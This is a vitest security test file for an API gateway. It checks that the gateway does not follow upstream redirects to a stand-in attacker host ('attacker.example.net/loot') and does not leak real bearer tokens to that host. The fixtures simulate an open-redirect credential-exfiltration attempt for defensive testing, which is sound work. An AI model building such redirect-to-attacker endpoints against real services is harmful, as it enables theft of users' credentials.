import { afterAll, beforeAll, expect } from 'vitest'
import { openStage, type Stage } from '../e2e/gateway/harness.ts'
import { type Held, type Login } from '../e2e/gateway/requests.ts'
import { startUpstream, type Upstream } from '../e2e/gateway/upstream.ts'
import { header } from '../e2e/gateway/wire.ts'
import { attack, fronts } from './attack.ts'
import { ask, bearer, expectNothingOf } from './asking.ts'
import { openInternet, PUBLIC, type Internet } from './internet.ts'

let internet: Internet
let stage: Stage
let service: Upstream
let attacker: Upstream
let echo: Held
let login: Login

beforeAll(async () => {
  internet = openInternet()
  stage = await openStage()
  attacker = await startUpstream((_request, response) => response.end('mine'))
  service = await startUpstream((request, response) => {
    response.writeHead(Number(/\d+/.exec(request.url ?? '')?.[0]), { location: 'http://attacker.example.net/loot' })
    response.end()
  })
  echo = await stage.hold({ id: 'echo', endpoint: service.origin })
  login = await stage.login('triage')
  stage.names.set('attacker.example.net', [PUBLIC])
  internet.route(PUBLIC, 80, attacker.port)
})

afterAll(async () => {
  await stage.close()
  await service.close()
  await attacker.close()
  internet.close()
})

attack('D1', 'no redirect is followed, whatever its status', fronts, async (front) => {
  for (const status of [301, 302, 303, 307, 308]) {
    const before = service.got.length
    const answer = await ask(stage, front, { held: echo, login, method: 'POST', target: `/to/${status}`, body: 'x' })
    expect(answer.status).toBe(status)
    expect(header(answer, 'location')).toBe('http://attacker.example.net/loot')
    expect(service.got.length).toBe(before + 1)
  }
  expect(internet.dialled.filter(({ host }) => host === PUBLIC)).toEqual([])
  expect(attacker.received().length).toBe(0)
})

attack(
  'D1',
  'the agent that follows by itself brings a placeholder and nothing else',
  fronts.filter(({ door }) => door === 'absolute'),
  async (front) => {
    const answer = await stage.request({
      door: 'absolute',
      protocol: front.protocol,
      held: { id: 'attacker', host: 'attacker.example.net' },
      login,
      target: '/loot',
      headers: [bearer(login, echo)],
    })
    expect(answer.status).toBe(200)
    expect(attacker.got.at(-1)?.target).toBe('/loot')
    expectNothingOf(echo, attacker.received())
    expect(attacker.received().includes(login.token)).toBe(false)
  },
)
